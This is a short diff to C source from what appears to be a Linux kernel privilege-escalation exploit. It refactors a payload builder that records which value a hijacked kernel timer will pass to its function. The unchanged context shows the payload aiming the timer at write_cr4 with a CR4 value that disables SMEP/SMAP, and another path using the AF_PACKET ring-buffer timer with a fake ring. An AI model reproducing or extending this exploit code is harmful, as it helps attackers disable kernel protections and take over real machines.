@@ -28,6 +28,8 @@ static void set_function(struct th_plan *plan, uintptr_t fn, const char *name)
 }
 
 #if TH_ATK_HAS_DATA
+/* Both 4.14-layout variants call fn(.data): choosing .data is choosing the
+ * argument, so the intent is that value (its target is set by the caller). */
 static void set_data(struct th_plan *plan, unsigned long data, const char *name)
 {
 	size_t len = strlen(plan->what);
@@ -36,6 +38,8 @@ static void set_data(struct th_plan *plan, unsigned long data, const char *name)
 	plan->sets_data = 1;
 	plan->goal.has_data = 1;
 	plan->goal.data = data;
+	th_intent.kind = TH_INTENT_VALUE;
+	th_intent.value = data;
 	plan->reach = ATK_OFF_DATA + sizeof(plan->img.timer.data);
 	snprintf(plan->what + len, sizeof(plan->what) - len, "%s.data = %s (0x%lx)",
 		 len ? ", " : "", name, data);
@@ -97,8 +101,6 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 		set_function(plan, code_addr_write_cr4(), "write_cr4");
 		set_data(plan, TH_CR4_CHOSEN, "CR4 without SMEP/SMAP");
 		th_intent.target = "write_cr4";
-		th_intent.kind = TH_INTENT_VALUE;
-		th_intent.value = TH_CR4_CHOSEN;
 #endif
 		break;
 	case TH_PAYLOAD_FUNC_WRITE_CR4:
@@ -153,8 +155,6 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 		plan->img.timer.function = (uintptr_t)&prb_retire_rx_blk_timer_expired;
 		set_data(plan, data, "the fake ring");
 		th_intent.target = "prb_retire_rx_blk_timer_expired";
-		th_intent.kind = TH_INTENT_VALUE;
-		th_intent.value = data;
 	}
 #endif
 		break;
